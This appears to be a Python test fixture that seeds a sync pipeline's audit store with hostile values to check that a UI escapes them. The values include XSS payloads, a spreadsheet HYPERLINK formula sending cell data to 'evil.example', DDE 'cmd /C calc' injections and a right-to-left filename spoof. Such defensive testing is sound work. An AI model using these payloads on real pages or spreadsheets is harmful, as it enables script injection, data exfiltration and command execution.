"""An audit store full of hostile values (issue 18): markup, attribute breakouts, quotes,
``javascript:`` URLs, spreadsheet formulas, control characters, a right-to-left override and
a 1 MB string, in a run's id, error, notes, params, counts, timings and ledger, in its rejects
(user ids, reasons, raw records with names and company names) and in its sent messages.

Every script payload sets ``window.__pwned``: a page that rendered one as markup would set it.
The run id has no ``/``: Airflow's own run pages cannot address one that has (the api-server
decodes ``%2F`` before routing), so a run id with one is out of reach for the tab too.
"""

from __future__ import annotations

import json

from moesif_segment_sync.pipeline import staging
from moesif_segment_sync.pipeline.staging import Staging
from moesif_segment_sync.store.audit import AuditStore, BatchEntry, RunKey
from tests.history_seed import at
from tests.support import DAG_ID

IMG = "<img src=x onerror=\"window.__pwned='img'\">"
SCRIPT = "<script>window.__pwned='script'</script>"
BREAKOUT = "\"><svg onload=\"window.__pwned='svg';alert('svg')\">'"
JS_URL = "javascript:window.__pwned='href'"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CONTROL = "bell\x07escape\x1b[31mred"
RLO = "invoice\u202egpj.exe"
BIG = "A" * 1_000_000 + IMG

# Allowed only with a widened AIRFLOW__SCHEDULER__ALLOWED_RUN_ID_PATTERN (".*").
RUN_ID = f"manual__<img src=x onerror=window.__pwned=1>\"'&{RLO}<svg onload=window.__pwned=2>"
LOGICAL_DATE = "2026-11-25T05:00:00Z"

# What each reject's cells hold, in seq order: user ids, reasons and raw records.
USER_IDS = [IMG, SCRIPT, BREAKOUT, JS_URL, *FORMULAS, CONTROL, RLO, BIG]
REASONS = [f"reason {n}: {value}" if n % 2 else value for n, value in enumerate(USER_IDS)]
NAMES = [SCRIPT, FORMULAS[0], RLO]
COMPANIES = [BREAKOUT, FORMULAS[3], JS_URL]
ERROR = f"{FORMULAS[0]} {SCRIPT}"
NOTES = [IMG, JS_URL, RLO]
PARAMS = {"start": SCRIPT, "end": None, "dry_run": True, BREAKOUT: JS_URL}
WARNING_KIND = IMG
STAGE = SCRIPT
LEDGER_ERROR = BREAKOUT
FAILED_TASK = IMG


def raw_record(n: int) -> str:
    return json.dumps({"user_id": USER_IDS[n][:40], "name": NAMES[n % 3],
                       "company": COMPANIES[n % 3]}, ensure_ascii=False)


def rejects() -> list[dict]:
    return [{"entity": "user", "entity_id": user_id, "kind": "no_email", "reason": reason,
             "raw_location": JS_URL, "raw_record": raw_record(n)}
            for n, (user_id, reason) in enumerate(zip(USER_IDS, REASONS, strict=True))]


def messages() -> list[dict]:
    return [{"type": "identify", "userId": user_id, "messageId": f"moesif-segment-sync-{n}",
             "timestamp": "2026-11-25T04:10:00.000Z", "context": {"active": False},
             "traits": {"name": NAMES[n % 3], "company": {"name": COMPANIES[n % 3]}}}
            for n, user_id in enumerate(USER_IDS[:-1])]


def seed(url: str, staging_root: str | None = None) -> None:
    store = AuditStore(url)
    key = RunKey(DAG_ID, RUN_ID)
    store.record_run(key, mode="manual", status="failed", window_start=at(25, 4),
                     window_end=at(25, 5), window_source="params", params=PARAMS, dry_run=False,
                     started_at=at(25, 5, 0, 1), finished_at=at(25, 5, 0, 4),
                     considered=2 * len(USER_IDS) - 1, sent=len(USER_IDS) - 1, would_send=0,
                     unchanged=0, rejected=len(USER_IDS), batches=1,
                     counts={"routes": {"window": 2 * len(USER_IDS) - 1}, "shards": 1,
                             "warnings": {WARNING_KIND: 1}},
                     timings={STAGE: 1.0}, staging=JS_URL, error=ERROR,
                     failed_task=FAILED_TASK, notes=NOTES)
    store.record_batch(key, BatchEntry(0, 1, "failed", len(USER_IDS) - 1, 4000, 3,
                                       error=LEDGER_ERROR))
    store.replace_rejects(key, rejects())
    store.close()
    if staging_root:
        with Staging(staging_root, DAG_ID, RUN_ID).writer(staging.to_send_file(0)) as out:
            for message in messages():
                out.write(message)
